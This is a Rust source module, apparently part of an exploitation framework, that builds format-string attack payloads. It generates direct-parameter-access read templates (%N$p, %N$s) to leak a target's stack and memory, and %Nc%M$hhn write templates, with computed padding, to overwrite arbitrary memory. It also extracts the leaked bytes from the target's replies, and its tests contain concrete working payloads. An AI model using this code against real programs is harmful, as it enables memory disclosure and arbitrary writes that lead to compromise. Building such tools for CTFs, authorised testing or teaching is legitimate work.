//! Direct Parameter Access (DPA) template builder.
//!
//! Builds the byte-exact format strings sent to the target:
//!
//! ```text
//! read:  AAA<sep>%<idx>$<spec><sep><term>[<pointer>]
//! write: <sep>%<count>c%<idx>$<hh|h|>n AAA<sep><term><pointer>
//! ```
//!
//! Every template is padded to a multiple of the pointer width so that
//! bytes appended after it start on an argument slot boundary.

use crate::channel::find_subsequence;
use crate::error::{Error, Result};

/// Byte used to pad templates up to an aligned length.
pub const FILLER: u8 = b'A';

pub const DEFAULT_SEPARATOR: &[u8] = b"|";
pub const DEFAULT_TERMINATOR: &[u8] = b"foozlefu";

/// Characters `%p` may print for a pointer (`0x1f`, `(nil)`).
const POINTER_ALPHABET: &[u8] = b"0123456789abcdefx(nil)";

/// Conversion used for read templates.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Specifier {
    /// `%p`: print the argument as a pointer.
    Pointer,
    /// `%s`: print the string the argument points to.
    #[default]
    String,
    /// No conversion character (write templates).
    None,
}

impl Specifier {
    pub fn as_str(self) -> &'static str {
        match self {
            Specifier::Pointer => "p",
            Specifier::String => "s",
            Specifier::None => "",
        }
    }
}

/// Width of a `%n` write.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum WriteWidth {
    /// `%hhn`
    Byte,
    /// `%hn`
    Short,
    /// `%n`
    Int,
}

impl WriteWidth {
    pub fn modifier(self) -> &'static str {
        match self {
            WriteWidth::Byte => "hh",
            WriteWidth::Short => "h",
            WriteWidth::Int => "",
        }
    }

    /// Number of target bytes affected.
    pub fn bytes(self) -> usize {
        match self {
            WriteWidth::Byte => 1,
            WriteWidth::Short => 2,
            WriteWidth::Int => 4,
        }
    }
}

/// Punctuation delimiting leaked data in the target's reply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FormatStringInfo {
    /// Emitted immediately before and after the converted value.
    pub separator: Vec<u8>,
    /// Marks the end of a reply.
    pub terminator: Vec<u8>,
    /// Conversion used for parameter leaks.
    pub specifier: Specifier,
}

impl FormatStringInfo {
    pub fn new(separator: &[u8], terminator: &[u8], specifier: Specifier) -> Result<Self> {
        let info = Self {
            separator: separator.to_vec(),
            terminator: terminator.to_vec(),
            specifier,
        };
        info.validate()?;
        Ok(info)
    }

    pub fn with_specifier(&self, specifier: Specifier) -> Self {
        Self {
            specifier,
            ..self.clone()
        }
    }

    /// Check that separator and terminator can be found unambiguously.
    pub fn validate(&self) -> Result<()> {
        if self.separator.is_empty() {
            return Err(Error::Config("separator must not be empty".into()));
        }
        if self.terminator.is_empty() {
            return Err(Error::Config("terminator must not be empty".into()));
        }
        for (name, token) in [("separator", &self.separator), ("terminator", &self.terminator)] {
            if let Some(b) = token.iter().find(|&&b| matches!(b, b'%' | 0 | b'\n')) {
                return Err(Error::Config(format!(
                    "{} contains forbidden byte {:?}",
                    name,
                    (*b as char).escape_default().to_string()
                )));
            }
        }
        if let Some(b) = self.separator.iter().find(|b| POINTER_ALPHABET.contains(*b)) {
            return Err(Error::Config(format!(
                "separator byte '{}' collides with %p output",
                *b as char
            )));
        }
        if find_subsequence(&self.terminator, &self.separator).is_some() {
            return Err(Error::Config("terminator must not contain the separator".into()));
        }
        Ok(())
    }
}

impl Default for FormatStringInfo {
    fn default() -> Self {
        Self {
            separator: DEFAULT_SEPARATOR.to_vec(),
            terminator: DEFAULT_TERMINATOR.to_vec(),
            specifier: Specifier::default(),
        }
    }
}

/// Smallest length >= `len` that is a multiple of `width`.
pub fn stack_aligned_len(len: usize, width: usize) -> usize {
    len.div_ceil(width) * width
}

/// Unpadded read template: `<sep>%<param>$<spec><sep><term>`.
pub fn read_template(param: usize, specifier: Specifier, info: &FormatStringInfo) -> Vec<u8> {
    let mut t = info.separator.clone();
    t.extend_from_slice(format!("%{}${}", param, specifier.as_str()).as_bytes());
    t.extend_from_slice(&info.separator);
    t.extend_from_slice(&info.terminator);
    t
}

/// Left-pad `template` with [`FILLER`] up to `aligned_len`.
pub fn pad_left(template: &[u8], aligned_len: usize) -> Result<Vec<u8>> {
    if template.len() > aligned_len {
        return Err(Error::Bounds(format!(
            "template of {} bytes does not fit aligned length {}",
            template.len(),
            aligned_len
        )));
    }
    let mut padded = vec![FILLER; aligned_len - template.len()];
    padded.extend_from_slice(template);
    Ok(padded)
}

/// Read template for `param`, left-padded to `aligned_len`.
pub fn padded_read_template(
    param: usize,
    specifier: Specifier,
    info: &FormatStringInfo,
    aligned_len: usize,
) -> Result<Vec<u8>> {
    pad_left(&read_template(param, specifier, info), aligned_len)
}

fn write_head(count: usize, param: usize, width: WriteWidth, info: &FormatStringInfo) -> Vec<u8> {
    let mut head = info.separator.clone();
    // %0c still prints a character
    if count > 0 {
        head.extend_from_slice(format!("%{}c", count).as_bytes());
    }
    head.extend_from_slice(format!("%{}${}n", param, width.modifier()).as_bytes());
    head
}

/// Unpadded write template: `<sep>%<count>c%<param>$<mod>n<sep><term>`.
pub fn write_template(
    count: usize,
    param: usize,
    width: WriteWidth,
    info: &FormatStringInfo,
) -> Vec<u8> {
    let mut t = write_head(count, param, width, info);
    t.extend_from_slice(&info.separator);
    t.extend_from_slice(&info.terminator);
    t
}

/// Write template padded to `aligned_len`.
///
/// The filler goes after the `%n` conversion so the character count seen
/// by `%n` is exactly `len(separator) + count`.
pub fn padded_write_template(
    count: usize,
    param: usize,
    width: WriteWidth,
    info: &FormatStringInfo,
    aligned_len: usize,
) -> Result<Vec<u8>> {
    let mut t = write_head(count, param, width, info);
    let tail_len = info.separator.len() + info.terminator.len();
    if t.len() + tail_len > aligned_len {
        return Err(Error::Bounds(format!(
            "write template of {} bytes does not fit aligned length {}",
            t.len() + tail_len,
            aligned_len
        )));
    }
    t.resize(aligned_len - tail_len, FILLER);
    t.extend_from_slice(&info.separator);
    t.extend_from_slice(&info.terminator);
    Ok(t)
}

/// Bytes the target prints verbatim for `payload` before its first
/// conversion: the filler run and the opening separator.
pub fn literal_prefix(payload: &[u8]) -> &[u8] {
    let end = payload.iter().position(|&b| b == b'%').unwrap_or(payload.len());
    &payload[..end]
}

/// Extract the leaked bytes from the reply to `payload`, read up to the
/// terminator.
///
/// The reply must end with `<sep><term>`. The leak starts after the first
/// occurrence of the payload's literal prefix, so bytes left over from an
/// earlier reply (the echoed pointer of the previous payload) are skipped
/// even when they contain the separator. Leaked data may itself contain the
/// separator.
pub fn extract_leak(reply: &[u8], payload: &[u8], info: &FormatStringInfo) -> Result<Vec<u8>> {
    let body = reply
        .strip_suffix(info.terminator.as_slice())
        .ok_or_else(|| Error::Protocol("reply is missing the terminator".into()))?;
    let body = body
        .strip_suffix(info.separator.as_slice())
        .ok_or_else(|| Error::Protocol("reply is missing the closing separator".into()))?;
    let prefix = match literal_prefix(payload) {
        p if p.ends_with(&info.separator) => p,
        _ => info.separator.as_slice(),
    };
    let open = find_subsequence(body, prefix).ok_or_else(|| {
        Error::Protocol(format!(
            "reply is missing the opening \"{}\"",
            prefix.escape_ascii()
        ))
    })?;
    Ok(body[open + prefix.len()..].to_vec())
}

/// Calculate padding so that `(current_written + padding) % 256 == target_byte`.
pub fn calculate_padding(current_written: usize, target_byte: u8) -> usize {
    let target = target_byte as usize;
    let current = current_written % 256;
    if target >= current {
        target - current
    } else {
        256 + target - current
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn padding_basic() {
        assert_eq!(calculate_padding(0, 0x41), 0x41);
        assert_eq!(calculate_padding(0x41, 0x41), 0);
        assert_eq!(calculate_padding(0x42, 0x41), 255);
        assert_eq!(calculate_padding(0, 0), 0);
        assert_eq!(calculate_padding(255, 0), 1);
    }

    #[test]
    fn padding_wrap() {
        assert_eq!(calculate_padding(0x100, 0x01), 1);
        assert_eq!(calculate_padding(0xFF, 0xFE), 255);
    }

    #[test]
    fn read_template_shape() {
        let info = FormatStringInfo::default();
        assert_eq!(read_template(6, Specifier::Pointer, &info), b"|%6$p|foozlefu");
        assert_eq!(read_template(37, Specifier::String, &info), b"|%37$s|foozlefu");
    }

    #[test]
    fn template_is_deterministic() {
        let info = FormatStringInfo::default();
        assert_eq!(
            padded_read_template(12, Specifier::Pointer, &info, 16).unwrap(),
            padded_read_template(12, Specifier::Pointer, &info, 16).unwrap()
        );
    }

    #[test]
    fn aligned_len() {
        assert_eq!(stack_aligned_len(0, 8), 0);
        assert_eq!(stack_aligned_len(1, 8), 8);
        assert_eq!(stack_aligned_len(8, 8), 8);
        assert_eq!(stack_aligned_len(15, 4), 16);
        assert_eq!(stack_aligned_len(16, 4), 16);
    }

    #[test]
    fn padded_templates_are_aligned() {
        let info = FormatStringInfo::default();
        for width in [4, 8] {
            for param in [0, 1, 9, 10, 99, 100, 999, 12345] {
                for spec in [Specifier::Pointer, Specifier::String] {
                    let raw = read_template(param, spec, &info);
                    let len = stack_aligned_len(raw.len(), width);
                    let padded = pad_left(&raw, len).unwrap();
                    assert_eq!(padded.len() % width, 0);
                    assert!(padded.len() >= raw.len());
                    assert!(padded.ends_with(&raw));
                    assert!(padded[..len - raw.len()].iter().all(|&b| b == FILLER));
                }
            }
        }
    }

    #[test]
    fn pad_left_rejects_short_length() {
        assert!(matches!(pad_left(b"|%100$p|", 4), Err(Error::Bounds(_))));
    }

    #[test]
    fn write_template_modifiers() {
        let info = FormatStringInfo::default();
        assert_eq!(
            write_template(254, 38, WriteWidth::Byte, &info),
            b"|%254c%38$hhn|foozlefu"
        );
        assert_eq!(
            write_template(10, 7, WriteWidth::Short, &info),
            b"|%10c%7$hn|foozlefu"
        );
        assert_eq!(write_template(10, 7, WriteWidth::Int, &info), b"|%10c%7$n|foozlefu");
        assert_eq!(write_template(0, 7, WriteWidth::Int, &info), b"|%7$n|foozlefu");
    }

    #[test]
    fn write_filler_follows_conversion() {
        let info = FormatStringInfo::default();
        let t = padded_write_template(254, 38, WriteWidth::Byte, &info, 24).unwrap();
        assert_eq!(t, b"|%254c%38$hhnAA|foozlefu");
        assert!(padded_write_template(254, 38, WriteWidth::Byte, &info, 16).is_err());
    }

    #[test]
    fn extract_between_separators() {
        let info = FormatStringInfo::default();
        assert_eq!(
            extract_leak(b"AA|0x4141|foozlefu", b"AA|%6$p|foozlefu", &info).unwrap(),
            b"0x4141"
        );
        assert_eq!(
            extract_leak(b"junk\nA||foozlefu", b"A|%37$s|foozlefu", &info).unwrap(),
            b""
        );
        // leaked data containing the separator is kept whole
        assert_eq!(
            extract_leak(b"|a|b|foozlefu", b"|%5$s|foozlefu", &info).unwrap(),
            b"a|b"
        );
    }

    #[test]
    fn extract_skips_echoed_pointer_with_separator() {
        let info = FormatStringInfo::default();
        let payload = b"A|%37$s|foozlefu\xef\xbe\xad\xde\0\0\0\0";
        // 0x40107c echoed after the previous terminator
        assert_eq!(
            extract_leak(b"|\x10@\nA|deadbeef|foozlefu", payload, &info).unwrap(),
            b"deadbeef"
        );
        assert_eq!(
            extract_leak(b"|0\nA|b|cd|foozlefu", payload, &info).unwrap(),
            b"b|cd"
        );
    }

    #[test]
    fn literal_prefix_stops_at_conversion() {
        assert_eq!(literal_prefix(b"AA|%6$p|foozlefu"), b"AA|");
        assert_eq!(literal_prefix(b"|%254c%38$hhnAA|foozlefu"), b"|");
        assert_eq!(literal_prefix(b"no conversion"), b"no conversion");
    }

    #[test]
    fn extract_protocol_errors() {
        let info = FormatStringInfo::default();
        let payload = b"|%1$p|foozlefu";
        assert!(matches!(extract_leak(b"|0x1|", payload, &info), Err(Error::Protocol(_))));
        assert!(matches!(
            extract_leak(b"|0x1foozlefu", payload, &info),
            Err(Error::Protocol(_))
        ));
        assert!(matches!(
            extract_leak(b"0x1|foozlefu", payload, &info),
            Err(Error::Protocol(_))
        ));
        assert!(matches!(
            extract_leak(b"|0x1|foozlefu", b"AA|%1$p|foozlefu", &info),
            Err(Error::Protocol(_))
        ));
    }

    #[test]
    fn info_validation() {
        assert!(FormatStringInfo::default().validate().is_ok());
        assert!(FormatStringInfo::new(b"", b"end", Specifier::String).is_err());
        assert!(FormatStringInfo::new(b"|", b"", Specifier::String).is_err());
        assert!(FormatStringInfo::new(b"%", b"end", Specifier::String).is_err());
        assert!(FormatStringInfo::new(b"x", b"END", Specifier::String).is_err());
        assert!(FormatStringInfo::new(b"|", b"en|d", Specifier::String).is_err());
        assert!(FormatStringInfo::new(b"#", b"EOF\n", Specifier::String).is_err());
        assert!(FormatStringInfo::new(b"::", b"@@end@@", Specifier::Pointer).is_ok());
    }
}
